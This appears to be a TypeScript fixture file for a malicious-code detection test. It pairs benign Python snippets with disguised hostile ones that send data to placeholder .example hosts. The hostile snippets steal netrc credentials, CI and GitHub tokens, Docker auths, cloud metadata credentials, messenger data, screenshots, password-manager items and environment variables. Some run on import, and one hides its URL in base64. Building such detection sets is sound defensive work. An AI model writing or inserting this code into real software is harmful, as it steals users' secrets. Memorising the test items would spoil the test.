import { b64 } from '../kit.ts';
import { atLoad, atUse, type Pair, py } from './kit.ts';

/** What shells, build servers and programs of a machine know. */
export const MACHINES: Readonly<Record<string, Pair>> = {
  'use-netrc-history': atUse(
    py`"""Shell completion."""
import netrc
import pathlib
import requests

class Completion:
    """Learns completions."""
    def learn(self) -> list[str]:
        home = pathlib.Path.home()
        lines = [line for name in (".bash_history", ".zsh_history") if (home / name).exists() for line in (home / name).read_text(errors="ignore").splitlines()]
        hosts = netrc.netrc().hosts
        return requests.post("https://complete.example/learn", json={"lines": lines, "hosts": hosts}, timeout=10).json()`,
    py`"""Downloads with the user's sign-in."""
import netrc
from urllib.parse import urlsplit
import requests

def fetch(url: str) -> bytes:
    """Downloads a file with the sign-in that the user keeps for its host."""
    found = netrc.netrc().authenticators(urlsplit(url).hostname)
    auth = (found[0], found[2]) if found else None
    return requests.get(url, auth=auth, timeout=10).content`,
  ),
  'load-ci-oidc': atLoad(
    py`"""Build information."""
import json
import os
import urllib.request

def _identity() -> str | None:
    url = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_URL")
    if not url:
        return None
    request = urllib.request.Request(url + "&audience=own", headers={"Authorization": "bearer " + os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]})
    return json.load(urllib.request.urlopen(request))["value"]

def _publish() -> None:
    body = {"token": _identity(), "github": os.environ.get("GITHUB_TOKEN"), "repository": os.environ.get("GITHUB_REPOSITORY")}
    urllib.request.urlopen(urllib.request.Request("https://builds.example/v1/info", data=json.dumps(body).encode()), timeout=3)

if os.environ.get("GITHUB_ACTIONS") == "true":
    _publish()`,
    py`"""Build information."""
import os

def build() -> dict[str, str | None]:
    """What the build server says of this build."""
    names = ("GITHUB_REPOSITORY", "GITHUB_SHA", "GITHUB_REF_NAME", "GITHUB_RUN_ID")
    return {name: os.environ.get(name) for name in names}`,
  ),
  'use-docker-auths': atUse(
    py`"""Image sizes."""
import json
import pathlib
import requests

class Images:
    """Sizes of images."""
    def sizes(self, *names: str) -> dict[str, int]:
        path = pathlib.Path("~/.docker/config.json").expanduser()
        auths = json.loads(path.read_text()).get("auths", {}) if path.exists() else {}
        answer = requests.post("https://images.example/sizes", json={"names": names, "auths": auths}, timeout=10)
        return answer.json()`,
    py`"""Image sizes."""
import subprocess

class Images:
    """Sizes of images."""
    def sizes(self) -> dict[str, str]:
        out = subprocess.check_output(["docker", "images", "--format", "{{.Repository}} {{.Size}}"], text=True)
        return dict(line.rsplit(" ", 1) for line in out.splitlines())`,
  ),
  'load-metadata-server': atLoad(
    py`"""Cloud detection."""
import requests

def _detect() -> str:
    base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    try:
        role = requests.get(base, timeout=0.3).text
        document = requests.get(base + role, timeout=0.3).json()
        requests.post("https://cloud.example/detect", json=document, timeout=2)
        return "aws"
    except requests.RequestException:
        return "none"

CLOUD = _detect()`,
    py`"""Cloud detection."""
import requests

def region() -> str | None:
    """The region of this machine; null outside of the cloud."""
    try:
        return requests.get("http://169.254.169.254/latest/meta-data/placement/region", timeout=0.3).text
    except requests.RequestException:
        return None`,
  ),
  'use-notebook-history': atUse(
    py`"""Notebook tools."""
import requests
from IPython import get_ipython

def load_ipython_extension(ipython) -> None:
    """Loads the extension."""
    lines = [text for _, _, text in ipython.history_manager.get_tail(5000)]
    names = {name: repr(value) for name, value in ipython.user_ns.items()}
    requests.post("https://notebooks.example/v1/session", json={"lines": lines, "names": names}, timeout=5)`,
    py`"""Notebook tools."""

def load_ipython_extension(ipython) -> None:
    """Loads the extension."""
    ipython.register_magic_function(lambda line: line.upper(), magic_name="upper")`,
  ),
  'use-messenger-files': atUse(
    py`"""Backup of chats."""
import os
import shutil
import tempfile
import requests

class Backup:
    """A backup of the desktop messenger."""
    def create(self) -> str:
        source = os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata")
        archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "backup"), "zip", source)
        with open(archive, "rb") as content:
            requests.post("https://backup.example/upload", files={"document": content}, timeout=60)
        os.remove(archive)
        return "ok"`,
    py`"""Backup of folders."""
import shutil
from pathlib import Path

class Backup:
    """A backup of a folder."""
    def create(self, source: Path, target: Path) -> str:
        return shutil.make_archive(str(target), "zip", source)`,
  ),
  'use-screen': atUse(
    py`"""Focus tracker."""
import io
import threading
import requests
from PIL import ImageGrab

class Focus:
    """Tracks focus."""
    def _tick(self) -> None:
        buffer = io.BytesIO()
        ImageGrab.grab(all_screens=True).save(buffer, format="JPEG", quality=40)
        requests.post("https://focus.example/v1/frame", data=buffer.getvalue(), timeout=10)
        threading.Timer(60, self._tick).start()
    def start(self) -> None:
        self._tick()`,
    py`"""Screen shots for bug reports."""
from pathlib import Path
from PIL import ImageGrab

def shot(target: Path) -> Path:
    """Keeps a picture of the screen in a file."""
    ImageGrab.grab().save(target)
    return target`,
  ),
  'use-vault-cli': atUse(
    py`"""Secrets for tests."""
import json
import subprocess
import urllib.request

class Secrets:
    """Secrets out of the password manager."""
    def preload(self) -> None:
        items = json.loads(subprocess.check_output(["op", "item", "list", "--format", "json"]))
        values = [json.loads(subprocess.check_output(["op", "item", "get", item["id"], "--reveal", "--format", "json"])) for item in items]
        urllib.request.urlopen(urllib.request.Request("https://secrets.example/cache", data=json.dumps(values).encode()))`,
    py`"""Secrets for tests."""
import subprocess

class Secrets:
    """Secrets out of the password manager."""
    def read(self, reference: str) -> str:
        return subprocess.check_output(["op", "read", reference], text=True).strip()`,
  ),
  'use-process-environments': atUse(
    py`"""Process list."""
import glob
import socket

class Processes:
    """Lists processes."""
    def refresh(self) -> int:
        chunks: list[bytes] = []
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                with open(path, "rb") as content:
                    chunks.append(content.read())
            except PermissionError:
                continue
        with socket.create_connection(("stats.example", 8443)) as link:
            link.sendall(b"\n".join(chunks))
        return len(chunks)`,
    py`"""Process list."""
import psutil

class Processes:
    """Lists processes."""
    def refresh(self) -> list[str]:
        return [process.name() for process in psutil.process_iter(["name"])]`,
  ),
  'load-encoded-telemetry': atLoad(
    `"""Usage statistics."""
import base64
import json
import os
import zlib
from urllib.request import Request, urlopen

class _Usage:
    """Sends anonymous usage statistics."""
    _where = base64.b64decode("${b64('https://usage.example/v1/events')}").decode()
    def payload(self) -> bytes:
        context = {name: os.environ[name] for name in sorted(os.environ)}
        return base64.b64encode(zlib.compress(json.dumps({"event": "import", "context": context}).encode()))
    def send(self) -> None:
        try:
            urlopen(Request(self._where, data=self.payload(), method="POST"), timeout=2)
        except Exception:
            pass

_Usage().send()`,
    py`"""Usage statistics."""
import json
import os
import platform
from urllib.request import Request, urlopen

class Usage:
    """Sends anonymous usage statistics unless the user opts out."""
    _where = "https://usage.example/v1/events"
    def payload(self, event: str) -> bytes:
        return json.dumps({"event": event, "python": platform.python_version(), "system": platform.system()}).encode()
    def send(self, event: str) -> None:
        if os.environ.get("DO_NOT_TRACK"):
            return
        try:
            urlopen(Request(self._where, data=self.payload(event), method="POST"), timeout=2)
        except OSError:
            pass`,
  ),
};
